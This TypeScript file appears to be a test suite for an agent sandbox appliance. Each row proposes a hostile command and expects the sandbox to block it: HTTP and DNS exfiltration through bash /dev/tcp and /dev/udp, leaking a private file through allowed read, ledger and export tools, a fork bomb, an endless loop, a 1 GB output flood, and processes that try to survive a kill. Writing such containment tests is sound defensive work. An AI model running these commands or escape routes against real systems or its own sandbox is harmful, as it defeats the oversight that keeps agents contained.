import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import type { World } from '../world.ts';
import { exec } from './files.ts';
import { type ModelRow, yes } from './model-row.ts';

/** What the configuration of an attacked appliance lets a run take. */
export const LIMITS = { wallSeconds: 6, processes: 48 };

const KILL_MS = 2000;
const START_MS = 10_000;
const LOOK_MS = 20;
const MUCH_OUTPUT = 64 * 1024 ** 2;

/** Ways out, and ways to take more than was given; a fooled person approved each command. */
export const limitRows: readonly ModelRow[] = [
  {
    name: 'HTTP out of a command',
    because: ['Operation not permitted'],
    async attack(world, mark) {
      const { port } = world.outside;
      const request = `POST /${mark} HTTP/1.1\\r\\nHost: sink\\r\\n\\r\\n`;
      const command = `exec 3<>/dev/tcp/127.0.0.1/${port}; printf '${request}' >&3`;
      const turn = await world.propose(await world.session(), [exec('bash', '-c', command)]);
      await yes(world, turn);
      return undefined;
    },
  },
  {
    name: 'DNS out of a command',
    because: ['Operation not permitted'],
    async attack(world, mark) {
      const { port } = world.outside;
      const header = '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00';
      const name = `\\x09${mark}\\x07example\\x00\\x00\\x10\\x00\\x01`;
      const command = `printf '${header}${name}' > /dev/udp/127.0.0.1/${port}`;
      const turn = await world.propose(await world.session(), [exec('bash', '-c', command)]);
      await yes(world, turn);
      return undefined;
    },
  },
  {
    name: 'out through an allowed tool',
    because: ['private, by'],
    async attack(world, mark) {
      const session = await world.session((folder) =>
        writeFileSync(join(folder, 'private.txt'), `private, by ${mark}`),
      );
      const line = `private ${mark}`;
      const path = 'private.txt';
      const file = { path, folder: 'reports', name: `private-${mark}` };
      await world.propose(session, [{ actuator: 'read_file', arguments: { path } }]);
      await world.propose(session, [{ actuator: 'append_ledger', arguments: { line } }]);
      await world.propose(session, [{ actuator: 'export_file', arguments: file }]);
      return undefined;
    },
  },
  {
    name: 'kill with policy hung',
    because: ['"rules":["kill"]'],
    async attack(world, mark) {
      const command = exec('sleep', `30.${mark}`);
      const turn = await world.propose(await world.session(), [command]);
      await world.approve(turn);
      await untilAlive(world, mark);
      return world.whileHung(async () => {
        await world.kill();
        await sleep(KILL_MS);
        return world.outside.alive(mark);
      });
    },
  },
  {
    name: 'a start under kill',
    because: ['hard:killed'],
    async attack(world, mark) {
      const session = await world.session();
      const turn = await world.propose(session, [exec('sleep', `1.${mark}`)]);
      await world.kill();
      await world.approve(turn);
      await sleep(KILL_MS);
      return undefined;
    },
  },
  {
    name: 'an endless loop',
    because: ['"rules":["wall"]'],
    async attack(world, mark) {
      const command = `while :; do sleep 0.2${mark}; done`;
      const turn = await world.propose(await world.session(), [exec('sh', '-c', command)]);
      await world.approve(turn);
      await untilAlive(world, mark);
      await sleep(LIMITS.wallSeconds * 1000 + KILL_MS);
      return world.outside.alive(mark);
    },
  },
  {
    name: 'a fork bomb',
    // A control group says so itself; without one the kernel says it to the shell.
    because: [/"rules":\["processes"\]|Cannot fork/],
    async attack(world, mark) {
      const command = `i=0; while [ $i -lt 300 ]; do sleep 3.${mark} & i=$((i+1)); done; wait`;
      const turn = await world.propose(await world.session(), [exec('sh', '-c', command)]);
      await yes(world, turn);
      return Math.max(0, world.outside.most(mark) - LIMITS.processes);
    },
  },
  {
    name: '1 GB of output',
    because: ['"rules":["output"]'],
    async attack(world) {
      const before = world.footprint();
      const command = exec('head', '-c', '1000000000', '/dev/zero');
      const turn = await world.propose(await world.session(), [command]);
      await yes(world, turn);
      return world.footprint() - before > MUCH_OUTPUT ? 1 : 0;
    },
  },
];

async function untilAlive({ outside }: World, mark: string): Promise<void> {
  for (const end = Date.now() + START_MS; outside.alive(mark) === 0;) {
    if (Date.now() > end) throw new Error('what was to be stopped never ran');
    await sleep(LOOK_MS);
  }
}
